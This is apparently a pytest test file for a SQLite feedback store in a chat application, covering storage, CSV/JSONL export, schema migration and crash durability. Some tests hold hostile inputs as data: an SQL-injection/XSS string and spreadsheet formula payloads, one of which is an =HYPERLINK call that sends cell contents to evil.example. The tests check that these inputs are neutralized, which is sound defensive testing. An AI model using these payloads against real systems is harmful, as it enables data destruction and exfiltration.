"""Feedback in a real SQLite file: stored, exported, suggested, and durable across SIGKILL."""

import csv
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys

import pytest

from guardedchat.errors import InputError
from guardedchat.feedback import FeedbackStore, export, suggest

from .conftest import ROOT, run_cli


def test_ratings_round_trip(tmp_path):
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    first = store.add(domain="mingqing", rating="up", question="海瑞是誰？", answer="明朝清官。", model="gemma3-270m",
                      messages=[{"role": "user", "content": "海瑞是誰？"}], gate_score=0.93, rails=[])
    store.add(domain="riscv", rating="should_answer", question="x0 為什麼是零？", comment="這是 RISC-V 問題",
              gate_score=0.2, rails=["domain gate"], refused=True)
    rows = store.rows()
    assert [r["id"] for r in rows] == [first, first + 1]
    assert rows[0]["messages"] == [{"role": "user", "content": "海瑞是誰？"}] and rows[1]["refused"] is True
    assert [r["rating"] for r in store.rows("riscv")] == ["should_answer"]
    assert store._connect().execute("PRAGMA journal_mode").fetchone()[0] == "wal"


@pytest.mark.parametrize("kwargs,message", [
    ({"rating": "meh"}, "不認得的評分 'meh'。修正：使用 up, down, should_answer 之一。"),
    ({"rating": "down", "comment": "長" * 2001}, "意見太長（2001 字，上限 2000）。修正：請縮短後再送出。"),
])
def test_bad_ratings_are_refused_with_a_fix(tmp_path, kwargs, message):
    with pytest.raises(InputError) as caught:
        FeedbackStore(tmp_path / "fb.sqlite3").add(domain="mingqing", **kwargs)
    assert str(caught.value) == message


def test_hostile_text_is_stored_as_text(tmp_path):
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    evil = "'); DROP TABLE feedback; -- <script>alert(1)</script> \x00 😀"
    store.add(domain="mingqing", rating="down", question=evil, comment=evil)
    assert store.rows()[0]["question"] == evil


def test_export_formats(tmp_path):
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    store.add(domain="mingqing", rating="down", question="問題, 有逗號", comment='引號"')
    lines = export(store.rows(), "jsonl").splitlines()
    assert json.loads(lines[0])["question"] == "問題, 有逗號"
    csv_text = export(store.rows(), "csv")
    assert csv_text.splitlines()[0] == ("id,time,domain,model,rating,comment,question,answer,messages,gate_score,rails,"
                                        "refused,sources")
    assert '"問題, 有逗號"' in csv_text and '"引號"""' in csv_text


FORMULAS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"看這裡")', '\'=HYPERLINK("http://evil.example/?"&A1,"看這裡")'),
    ("+886 2 1234", "'+886 2 1234"), ("-1+1", "'-1+1"), ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("海瑞是誰？", "海瑞是誰？"), ("1+1=2 嗎？", "1+1=2 嗎？"), ("", ""),
]


@pytest.mark.parametrize("text,cell", FORMULAS, ids=[str(i) for i in range(len(FORMULAS))])
def test_csv_export_writes_no_formula_cells(tmp_path, text, cell):
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    store.add(domain="mingqing", rating="down", question=text, answer=text, comment=text, model=text or None)
    row = next(csv.DictReader(io.StringIO(export(store.rows(), "csv"), newline="")))
    assert (row["question"], row["answer"], row["comment"], row["model"]) == (cell, cell, cell, cell)


def test_cli_export_and_suggest_neutralize_formulas(tmp_path):
    db = tmp_path / "fb.sqlite3"
    FeedbackStore(db).add(domain="mingqing", rating="should_answer", question="=1+1", comment="@SUM(1,2)")
    exported = run_cli("feedback", "export", "--format", "csv", "--db", str(db))
    row = next(csv.DictReader(io.StringIO(exported.stdout, newline="")))
    assert (row["question"], row["comment"]) == ("'=1+1", "'@SUM(1,2)")
    suggested = run_cli("feedback", "suggest", "--db", str(db))
    assert suggested.stdout.splitlines()[-1] == "      - \"'=1+1\"  # 1 次：'@SUM(1,2)"


def test_a_database_from_before_sources_gets_the_column(tmp_path):
    db = tmp_path / "fb.sqlite3"
    with sqlite3.connect(db) as old:
        old.execute("CREATE TABLE feedback (id INTEGER PRIMARY KEY AUTOINCREMENT, time TEXT NOT NULL, domain TEXT NOT NULL, "
                    "model TEXT, rating TEXT NOT NULL, comment TEXT NOT NULL DEFAULT '', question TEXT NOT NULL DEFAULT '', "
                    "answer TEXT NOT NULL DEFAULT '', messages TEXT NOT NULL DEFAULT '[]', gate_score REAL, "
                    "rails TEXT NOT NULL DEFAULT '[]', refused INTEGER NOT NULL DEFAULT 0)")
        old.execute("INSERT INTO feedback (time, domain, rating) VALUES ('t', 'mingqing', 'up')")
    store = FeedbackStore(db)
    store.add(domain="riscv", rating="down", sources=[{"number": 1, "doc": "pmp", "title": "PMP", "cited": True}])
    assert [(r["domain"], r["sources"]) for r in store.rows()] == [
        ("mingqing", []), ("riscv", [{"number": 1, "doc": "pmp", "title": "PMP", "cited": True}])]


def test_suggest_lists_wrongly_refused_questions_once_for_review():
    rows = [{"domain": "riscv", "rating": "should_answer", "question": "x0 為什麼是零？", "comment": "明明是 RISC-V"},
            {"domain": "riscv", "rating": "should_answer", "question": "x0 為什麼是零？", "comment": ""},
            {"domain": "riscv", "rating": "should_answer", "question": "RV32I 有多少個通用暫存器？", "comment": ""},
            {"domain": "riscv", "rating": "down", "question": "不算", "comment": ""}]
    text = suggest(rows, {"riscv": {"RV32I 有多少個通用暫存器？"}})
    assert text.splitlines()[2:] == ["# riscv", "riscv:", "  examples:", "    in_scope:",
                                     '      - "x0 為什麼是零？"  # 2 次：明明是 RISC-V']


def test_cli_export_and_suggest(tmp_path):
    db = tmp_path / "fb.sqlite3"
    FeedbackStore(db).add(domain="mingqing", rating="should_answer", question="方苞是誰？")
    exported = run_cli("feedback", "export", "--format", "csv", "--db", str(db))
    assert exported.returncode == 0 and "方苞是誰？" in exported.stdout
    suggested = run_cli("feedback", "suggest", "--db", str(db))
    assert '      - "方苞是誰？"  # 1 次' in suggested.stdout
    missing = run_cli("feedback", "export", "--db", str(tmp_path / "none.sqlite3"))
    assert missing.returncode == 2
    assert missing.stderr == (f"錯誤：找不到回饋資料庫 {tmp_path / 'none.sqlite3'}。修正：先在網頁上給評分，"
                              "或用 --db 指定檔案。\n")


WRITER = """
import sys, threading
from guardedchat.feedback import FeedbackStore
store = FeedbackStore(sys.argv[1])
lock = threading.Lock()
def write(worker):
    for i in range(125):
        row_id = store.add(domain="mingqing", rating="up", question=f"{worker}-{i}")
        with lock:
            print(row_id, flush=True)
threads = [threading.Thread(target=write, args=(w,)) for w in range(8)]
for t in threads: t.start()
for t in threads: t.join()
print("done", flush=True)
threading.Event().wait()  # keep running until killed
"""


@pytest.mark.parametrize("kill_after", [1000, 400])
def test_acknowledged_ratings_survive_sigkill(tmp_path, kill_after):
    """8 threads write 1 000 ratings; the process is SIGKILLed (after all, or mid-run after 400)."""
    db = tmp_path / "fb.sqlite3"
    process = subprocess.Popen([sys.executable, "-c", WRITER, str(db)], stdout=subprocess.PIPE, text=True, cwd=ROOT)
    acknowledged = set()
    for line in process.stdout:
        if line.strip() == "done":
            break
        acknowledged.add(int(line))
        if len(acknowledged) >= kill_after:
            break
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    store = FeedbackStore(db)
    stored = {row["id"] for row in store.rows()}
    assert len(acknowledged) >= kill_after and acknowledged <= stored
    assert store._connect().execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    if kill_after == 1000:
        assert len(stored) == 1000
